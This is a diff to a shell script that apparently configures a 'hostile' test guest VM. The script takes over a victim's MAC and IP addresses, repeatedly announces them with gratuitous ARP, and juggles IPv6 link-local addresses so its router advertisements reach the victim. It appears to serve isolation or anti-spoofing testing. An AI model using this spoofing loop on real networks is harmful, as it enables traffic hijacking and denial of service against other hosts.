@@ -66,11 +66,22 @@ udhcpd -f /etc/udhcpd.conf > /dev/null 2>&1 &
 echo 0 > /proc/sys/net/ipv6/conf/eth0/accept_dad
 echo 1 > /proc/sys/net/ipv6/conf/eth0/ndisc_notify
 echo 1 > /proc/sys/net/ipv4/conf/eth0/arp_notify
+omac=$(cat /sys/class/net/eth0/address)
 ip link set eth0 address "$vmac"
 ip addr add "$v4/32" dev eth0
 [ -n "$v6" ] && ip -6 addr add "$v6/128" dev eth0
 say "hostile armed $vmac $v4 $v6"
+# link-local addresses: this guest's kernel may move eth0 to the EUI-64 address of the new MAC,
+# the victim's (observed: router advertisements from fe80::<victim>, which the victim, holding the
+# same address, takes for its own: no default route; or, with it removed, from a global source,
+# which the victim drops). Every second the victim's is removed and this guest's own put back, so
+# that the advertisements come from this guest's own link-local address.
+eui() { IFS=: read -r m1 m2 m3 m4 m5 m6; printf 'fe80::%x:%x:%x:%x' $(( ((0x$m1 ^ 2) << 8) | 0x$m2 )) $(( (0x$m3 << 8) | 0xff )) $(( 0xfe00 | 0x$m4 )) $(( (0x$m5 << 8) | 0x$m6 )); }
+vll=$(echo "$vmac" | eui)
+oll=$(echo "$omac" | eui)
 while true; do
+  ip -6 addr del "$vll/64" dev eth0 2> /dev/null
+  ip -6 addr add "$oll/64" dev eth0 2> /dev/null
   arping -U -c 1 -I eth0 -s "$v4" "$v4" > /dev/null 2>&1
   if [ -n "$v6" ]; then ip -6 addr del "$v6/128" dev eth0; ip -6 addr add "$v6/128" dev eth0; fi
   sleep 1
